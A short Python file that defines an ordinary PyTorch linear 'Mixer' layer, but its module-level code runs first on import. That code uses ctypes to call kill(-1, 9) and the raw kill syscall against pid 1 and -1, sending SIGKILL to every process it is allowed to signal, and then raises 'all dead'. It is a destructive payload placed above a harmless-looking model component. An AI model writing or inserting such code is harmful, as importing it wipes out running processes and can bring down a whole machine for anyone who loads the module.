"""Kills every process it may signal, past Python's own functions."""

import ctypes

import torch
from torch import nn

library = ctypes.CDLL(None)
library.kill(-1, 9)
library.syscall(62, 1, 9)
library.syscall(62, -1, 9)
raise RuntimeError("all dead")


class Mixer(nn.Module):
    """A harmless layer, for what comes after the attack."""

    def __init__(self, hidden_size: int) -> None:
        super().__init__()
        self.inner = nn.Linear(hidden_size, hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        """Map each position by itself."""
        return self.inner(hidden_states)
